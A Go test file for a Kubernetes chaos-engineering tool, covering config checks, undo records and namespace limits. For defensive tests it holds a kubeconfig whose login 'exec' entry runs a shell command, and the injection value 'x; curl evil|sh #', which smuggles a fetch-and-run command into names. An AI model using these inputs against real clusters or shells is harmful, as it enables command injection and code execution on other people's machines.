package kube

import (
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"k8s.io/client-go/tools/clientcmd"
	clientcmdapi "k8s.io/client-go/tools/clientcmd/api"

	"xinbot.ir/squall/chaos"
)

// kubeconfigFor writes a kubeconfig with a token for a server.
func kubeconfigFor(t *testing.T, server string) string {
	t.Helper()
	config := clientcmdapi.NewConfig()
	config.Clusters["cluster"] = &clientcmdapi.Cluster{Server: server}
	config.AuthInfos["user"] = &clientcmdapi.AuthInfo{Token: "very-secret-token"}
	config.Contexts["one"] = &clientcmdapi.Context{Cluster: "cluster", AuthInfo: "user"}
	config.Contexts["two"] = &clientcmdapi.Context{Cluster: "cluster", AuthInfo: "user"}
	config.CurrentContext = "one"
	path := filepath.Join(t.TempDir(), "kubeconfig")
	if err := clientcmd.WriteToFile(*config, path); err != nil {
		t.Fatal(err)
	}
	return path
}

func TestNewChecks(t *testing.T) {
	good := Config{Kubeconfig: kubeconfigFor(t, "https://127.0.0.1:1"), Namespace: "ns", Allow: []string{"ns"}, Session: testSession}
	if _, err := New(good); err != nil {
		t.Error(err)
	}
	for name, test := range map[string]struct {
		edit func(*Config)
		says string
	}{
		"session":    {func(c *Config) { c.Session = "ABC" }, "8 hexadecimal digits"},
		"kubeconfig": {func(c *Config) { c.Context = "none" }, "none"},
		"kind":       {custom(chaos.CustomWorkload{Way: wayEvict, Kind: "daemonset", Name: "x"}), "must be deployment or statefulset"},
		"way":        {custom(chaos.CustomWorkload{Way: "explode", Kind: "deployment", Name: "x"}), "must be evict, delete or scale"},
		"name":       {custom(chaos.CustomWorkload{Way: wayEvict, Kind: "deployment"}), "names no workload"},
		"replicas":   {custom(chaos.CustomWorkload{Way: wayScale, Kind: "deployment", Name: "x", Replicas: -1}), "from 0 to 1000"},
	} {
		c := good
		test.edit(&c)
		if _, err := New(c); err == nil || !strings.Contains(err.Error(), test.says) {
			t.Errorf("%s: %v", name, err)
		}
	}
}

func custom(w chaos.CustomWorkload) func(*Config) {
	return func(c *Config) { c.Custom = []chaos.Custom{{ID: "custom", Workload: &w}} }
}

func TestInfosAreComplete(t *testing.T) {
	d, err := New(Config{
		Kubeconfig: kubeconfigFor(t, "https://127.0.0.1:1"), Session: testSession,
		Custom: []chaos.Custom{
			{ID: "a", Title: "A", Workload: &chaos.CustomWorkload{Way: wayEvict, Kind: "deployment", Name: "x"}},
			{ID: "b", Title: "B", Workload: &chaos.CustomWorkload{Way: wayScale, Kind: "statefulset", Name: "x", Replicas: 3}},
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	undoers := Undoers(Config{})
	for _, kind := range []string{scaleKind, rolloutKind, shapeKind} {
		if undoers[kind] == nil {
			t.Errorf("no undoer of %s", kind)
		}
		if undoers[kind].Remedy(json.RawMessage("{broken")) == "" {
			t.Errorf("no remedy for a broken record of %s", kind)
		}
		if err := undoers[kind].Undo(t.Context(), json.RawMessage("{broken"), false); err == nil {
			t.Errorf("a broken record of %s is no error", kind)
		}
	}
	for _, f := range d.Faults() {
		info := f.Info()
		if info.ID == "" || info.Title == "" || info.Summary == "" || info.Driver == "" || len(info.Expect) == 0 {
			t.Errorf("%+v", info)
		}
		full, err := chaos.Complete(info.Params, nil)
		if err != nil {
			t.Errorf("%s: its own defaults: %v", info.ID, err)
		}
		if full.Duration(chaos.TTL) <= 0 {
			t.Errorf("%s does not end", info.ID)
		}
	}
}

// The kubeconfig of a record is never read: it can name a program to run, and a run directory may be
// somebody else's.
func TestKubeconfigOfARecordIsNotUsed(t *testing.T) {
	dir := t.TempDir()
	out := filepath.Join(dir, "out")
	theirs := filepath.Join(dir, "theirs.yaml")
	write := func(path, text string) {
		t.Helper()
		if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	write(theirs, fmt.Sprintf(`apiVersion: v1
kind: Config
clusters: [{name: c, cluster: {server: "https://127.0.0.1:1"}}]
users: [{name: u, user: {exec: {apiVersion: client.authentication.k8s.io/v1, interactiveMode: Never, command: /bin/sh, args: ["-c", "id > %s"]}}}]
contexts: [{name: x, context: {cluster: c, user: u}}]
current-context: x
`, out))
	mine := kubeconfigFor(t, "https://127.0.0.1:1")
	for _, own := range []string{mine, filepath.Join(dir, "none.yaml")} {
		t.Setenv("KUBECONFIG", own)
		for kind, undoer := range Undoers(Config{Namespace: "n"}) {
			raw, err := json.Marshal(map[string]any{
				"where": clusterRef{Kubeconfig: theirs, Context: "x", Server: "https://127.0.0.1:1"}, "namespace": "n", "kind": "Deployment", "name": "d",
				"workload": map[string]any{"namespace": "n", "kind": "Deployment", "name": "d"}, "pod": "p", "container": "c", "uid": "u", "device": "eth0", "session": "1f2e3d4c",
			})
			if err != nil {
				t.Fatal(err)
			}
			var foreign *chaos.OtherTargetError
			if err := undoer.Undo(t.Context(), raw, true); !errors.As(err, &foreign) || foreign.Flag != "--kubeconfig "+theirs {
				t.Errorf("%s with kubeconfig %s: %v", kind, own, err)
			}
		}
	}
	if _, err := os.Stat(out); err == nil {
		t.Error("the login program of the record ran")
	}
}

// What a record says of its namespace is held to the operator's own limits before anybody is contacted.
func TestRecordsOfOtherNamespacesAreRefused(t *testing.T) {
	for name, c := range map[string]Config{
		"none":    {},
		"another": {Namespace: "mine", Allow: []string{"mine", "mine-too"}},
	} {
		c.Kubeconfig = kubeconfigFor(t, "https://127.0.0.1:1")
		for kind, undoer := range Undoers(c) {
			raw := json.RawMessage(`{"where":{"server":"https://127.0.0.1:1"},"namespace":"v1","pod":"p","device":"eth0","session":"1f2e3d4c","workload":{"namespace":"v1","kind":"statefulset","name":"redis"}}`)
			var foreign *chaos.OtherTargetError
			if err := undoer.Undo(t.Context(), raw, true); !errors.As(err, &foreign) || foreign.Flag != "--allow-namespace v1" {
				t.Errorf("%s: %s: %v", name, kind, err)
			}
			change, err := undoer.Describe(raw)
			if err != nil || !strings.Contains(change.Object, "v1/") || !strings.Contains(change.Place, "https://127.0.0.1:1") {
				t.Errorf("%s: %s: %+v, %v", name, kind, change, err)
			}
		}
	}
}

// A name in a cluster is somebody else's text, and people paste commands.
func TestCommandsAreQuoted(t *testing.T) {
	const evil = "x; curl evil|sh #"
	ref := clusterRef{Context: evil, Kubeconfig: "/" + evil}
	w := workloadRef{Namespace: evil, Kind: "deployment", Name: evil}
	raw := json.RawMessage(`{"namespace":"` + evil + `","pod":"` + evil + `","container":"` + evil + `","device":"eth0","session":"1f2e3d4c"}`)
	for name, command := range map[string]string{
		"scale": scaleCommand(ref, w, 2), "annotate": unmarkCommand(ref, w), "rollout": rolloutCommand(ref, w),
		"evict": evictCommand(ref, evil, evil), "exec": execCommand(ref, evil, evil, evil, evil),
		"shape": shapeUndoer{}.Remedy(raw),
	} {
		if rest := quotedWords.ReplaceAllString(command, ""); strings.ContainsAny(rest, ";#") || strings.Contains(rest, "|sh") {
			t.Errorf("%s: a shell would run a name: %s", name, command)
		}
	}
}

var quotedWords = regexp.MustCompile(`'[^']*'`)
